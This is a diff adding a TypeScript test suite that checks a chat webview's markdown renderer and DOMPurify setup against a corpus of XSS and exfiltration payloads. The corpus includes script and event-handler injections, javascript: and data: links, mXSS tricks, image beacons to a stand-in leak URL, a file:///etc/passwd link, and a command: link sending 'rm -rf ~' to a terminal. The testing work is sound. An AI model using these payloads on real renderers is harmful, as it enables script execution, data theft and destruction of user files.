@@ -1,0 +1,182 @@
+// Model output is data. An XSS and exfiltration corpus through the chat's renderer (markdown-it with
+// our rules) and then DOMPurify with the chat's allow-list, as the webview does before attaching.
+// Assertions are on the HTML that would be attached, and on what a browser (jsdom) does with it.
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import createDOMPurify, { type WindowLike } from 'dompurify';
+import { createServer } from 'node:http';
+import { type AddressInfo } from 'node:net';
+import { JSDOM, VirtualConsole } from 'jsdom';
+import { renderAnswer } from '../../src/core/markdown/render';
+import { ANSWER_ATTRIBUTES, ANSWER_TAGS, SANITIZE_CONFIG } from '../../src/core/markdown/sanitizeConfig';
+
+const window = new JSDOM('').window;
+const purify = createDOMPurify(window as unknown as WindowLike);
+
+/** What the webview attaches: render, then DOMPurify. */
+function attached(markdown: string): string {
+  return purify.sanitize(renderAnswer(markdown).html, SANITIZE_CONFIG);
+}
+
+const ATTACKER = 'http://127.0.0.1:9/leak?code=SECRET';
+
+const CORPUS: Record<string, string> = {
+  'script tag': '<script>window.pwned = 1</script>',
+  'script split over lines': '<scr\nipt>window.pwned = 1</script>',
+  'img onerror': '<img src=x onerror="window.pwned = 1">',
+  'raw img to a remote URL': `<img src="${ATTACKER}">`,
+  'img srcset': `<img srcset="${ATTACKER} 1x">`,
+  'svg onload': '<svg onload="window.pwned = 1"><circle r="1"/></svg>',
+  'svg image href': `<svg><image href="${ATTACKER}"/></svg>`,
+  'picture source': `<picture><source srcset="${ATTACKER}"><img src="${ATTACKER}"></picture>`,
+  'iframe': `<iframe src="${ATTACKER}"></iframe>`,
+  'object and embed': `<object data="${ATTACKER}"></object><embed src="${ATTACKER}">`,
+  'style attribute with url()': `<div style="background:url(${ATTACKER})">x</div>`,
+  'style element with url()': `<style>body { background: url(${ATTACKER}) }</style>`,
+  'link stylesheet': `<link rel="stylesheet" href="${ATTACKER}">`,
+  'meta refresh': `<meta http-equiv="refresh" content="0;url=${ATTACKER}">`,
+  'base href': `<base href="${ATTACKER}">`,
+  'form action': `<form action="${ATTACKER}"><button>Go</button></form>`,
+  'anchor with javascript: href': '<a href="javascript:window.pwned=1">click</a>',
+  'anchor with onclick': '<a href="https://example.com" onclick="window.pwned=1">click</a>',
+  'mXSS through math/style': '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
+  'javascript: link': '[click](javascript:window.pwned=1)',
+  'javascript: link, mixed case and spaces': '[click](  JaVaScRiPt:window.pwned=1)',
+  'javascript: link in angle brackets': '[click](<javascript:window.pwned=1>)',
+  'javascript: link through an entity': '[click](&#x6A;avascript:window.pwned=1)',
+  'javascript: link with an encoded colon': '[click](javascript&#58;window.pwned=1)',
+  'javascript: autolink': '<javascript:window.pwned=1>',
+  'vbscript: link': '[click](vbscript:msgbox(1))',
+  'data: link': '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)',
+  'data: image link': '[click](data:image/png;base64,iVBORw0KGgo=)',
+  'command: link': '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%22%7D)',
+  'command: autolink': '<command:workbench.action.openSettings>',
+  'file: link': '[passwords](file:///etc/passwd)',
+  'relative link': '[here](./secret.txt)',
+  'reference-style javascript: link': '[click][x]\n\n[x]: javascript:window.pwned=1',
+  'Markdown image to a remote URL': `![chart](${ATTACKER})`,
+  'reference-style image': `![chart][img]\n\n[img]: ${ATTACKER}`,
+  'image inside a link': `[![badge](${ATTACKER})](https://example.com)`,
+  'data: SVG image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
+  'link title breaking out of the attribute': '[x](https://example.com "t\\" onmouseover=\\"window.pwned=1")',
+  'tag characters spelling an attribute in a title': `[x](https://example.com "a${[...'" onmouseover="window.pwned=1'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}")`,
+  'HTML in inline code': '`<img src=x onerror="window.pwned=1">`',
+  'HTML in a fenced block': '```html\n<img src=x onerror="window.pwned=1">\n<script>window.pwned=1</script>\n```',
+  'HTML entities spelling a tag': '&lt;img src=x onerror="window.pwned=1"&gt;',
+  'double-encoded entities': '&amp;lt;script&amp;gt;window.pwned=1&amp;lt;/script&amp;gt;',
+};
+
+/** Each start tag of `html`, e.g. `<a class="pg-link" …>` (text never holds a raw `<`). */
+function tagsOf(html: string): string[] {
+  return html.match(/<[a-z][^>]*>/gi) ?? [];
+}
+
+function assertInert(name: string, html: string): void {
+  const tags = tagsOf(html);
+  for (const tag of tags) {
+    assert.doesNotMatch(tag, /\son[a-z]+\s*=/i, `${name}: event handler attribute in ${tag}`);
+    assert.doesNotMatch(tag, /\s(?:src|srcset|href|xlink:href|action|formaction|background|poster|style)\s*=/i, `${name}: URL or style attribute in ${tag}`);
+    const tagName = /^<([a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase() ?? '';
+    assert.ok((ANSWER_TAGS as readonly string[]).includes(tagName), `${name}: element <${tagName}> is not on the allow-list`);
+    for (const [, attribute] of tag.matchAll(/\s([a-z-:]+)=/gi)) {
+      assert.ok((ANSWER_ATTRIBUTES as readonly string[]).includes(attribute?.toLowerCase() ?? ''), `${name}: attribute ${attribute} in ${tag}`);
+    }
+    for (const [, target] of tag.matchAll(/data-href="([^"]*)"/g)) {
+      assert.match(target ?? '', /^(?:https?:\/\/|mailto:)/, `${name}: link target ${target}`);
+    }
+    // The attacker's URL may be shown (tooltip, screen reader label) or be a link the user clicks and
+    // confirms (data-href); never in an attribute a browser acts on by itself.
+    for (const [, attribute, value] of tag.matchAll(/\s([a-z-:]+)="([^"]*)"/gi)) {
+      if (value?.includes('127.0.0.1:9')) assert.ok(['title', 'aria-label', 'data-href'].includes(attribute ?? ''), `${name}: the attacker URL is in ${attribute}`);
+    }
+  }
+  assert.doesNotMatch(html, /<(?:script|img|svg|picture|source|iframe|object|embed|style|link|meta|base|form|math)\b/i, `${name}: dangerous element`);
+}
+
+describe('rendering untrusted answers: the XSS and exfiltration corpus', () => {
+  for (const [name, markdown] of Object.entries(CORPUS)) {
+    it(`${name}: inert before and after DOMPurify`, () => {
+      assertInert(`${name} (renderer)`, renderAnswer(markdown).html);
+      assertInert(`${name} (attached)`, attached(markdown));
+    });
+  }
+
+  it('DOMPurify alone (should the renderer ever be bypassed) strips every payload of the corpus given as raw HTML', () => {
+    for (const [name, payload] of Object.entries(CORPUS)) assertInert(`${name} (raw HTML)`, purify.sanitize(payload, SANITIZE_CONFIG));
+  });
+
+  it('raw HTML in an answer is shown as text, so the user sees what the model sent', () => {
+    const document = new JSDOM(`<body>${attached('<img src=x onerror="window.pwned = 1">')}</body>`).window.document;
+    assert.equal(document.body.textContent?.trim(), '<img src=x onerror="window.pwned = 1">');
+    assert.equal(document.querySelectorAll('img').length, 0);
+  });
+
+  it('a remote image becomes a placeholder that shows its URL; nothing refers to it as a resource', () => {
+    const html = attached(`Look: ![chart](${ATTACKER})`);
+    const document = new JSDOM(`<body>${html}</body>`).window.document;
+    const placeholder = document.querySelector('.pg-image-placeholder');
+    assert.ok(placeholder, html);
+    assert.match(placeholder.textContent ?? '', /Image “chart” not loaded/);
+    assert.ok(placeholder.textContent?.includes(ATTACKER), placeholder.textContent ?? '');
+    assert.equal(document.querySelectorAll('[src], [srcset], [href], [style]').length, 0);
+  });
+
+  it('allowed links keep their target only in data-href, with the full URL as their tooltip', () => {
+    for (const url of ['https://example.com/a?b=1', 'http://example.org/', 'mailto:someone@example.com']) {
+      const html = attached(`[x](${url})`);
+      const document = new JSDOM(`<body>${html}</body>`).window.document;
+      const link = document.querySelector('a');
+      assert.ok(link, html);
+      assert.equal(link.getAttribute('data-href'), url);
+      assert.equal(link.getAttribute('title'), url);
+      assert.equal(link.hasAttribute('href'), false);
+    }
+  });
+
+  it('disallowed link schemes leave no link at all', () => {
+    for (const name of ['javascript: link', 'data: link', 'command: link', 'vbscript: link', 'file: link', 'relative link', 'command: autolink']) {
+      const html = attached(CORPUS[name] ?? '');
+      assert.doesNotMatch(html, /<a\b/, `${name}: ${html}`);
+    }
+  });
+
+  it('attached in a browser with scripts and subresources enabled, nothing runs and the attacker gets no request', async () => {
+    const hits: string[] = [];
+    const attacker = createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.end('');
+    });
+    await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', done));
+    const origin = `127.0.0.1:${(attacker.address() as AddressInfo).port}`;
+    const attach = async (html: string): Promise<boolean> => {
+      const dom = new JSDOM('<!DOCTYPE html><body><div id="app"></div></body>', {
+        runScripts: 'dangerously',
+        resources: 'usable',
+        url: 'https://webview.test/',
+        // The raw control corpus makes jsdom complain about navigation it does not implement.
+        virtualConsole: new VirtualConsole(),
+      });
+      const app = dom.window.document.getElementById('app');
+      assert.ok(app);
+      app.innerHTML = html;
+      for (const element of Array.from(app.querySelectorAll('*'))) {
+        for (const type of ['click', 'mouseover', 'focus']) element.dispatchEvent(new dom.window.MouseEvent(type, { bubbles: true }));
+      }
+      await new Promise((done) => setTimeout(done, 300));
+      const ran = (dom.window as unknown as { pwned?: number }).pwned !== undefined;
+      dom.window.close();
+      return ran;
+    };
+    try {
+      const corpus = Object.values(CORPUS).map((markdown) => markdown.split('127.0.0.1:9').join(origin));
+      // The check itself works: the raw payloads do run, and do reach the attacker.
+      assert.equal(await attach(corpus.join('\n')), true, 'control: the raw corpus should run a handler');
+      assert.ok(hits.length > 0, 'control: the raw corpus should reach the attacker');
+      hits.length = 0;
+      assert.equal(await attach(corpus.map(attached).join('\n')), false, 'a payload ran');
+      assert.deepEqual(hits, []);
+    } finally {
+      await new Promise((done) => attacker.close(done));
+    }
+  });
+});
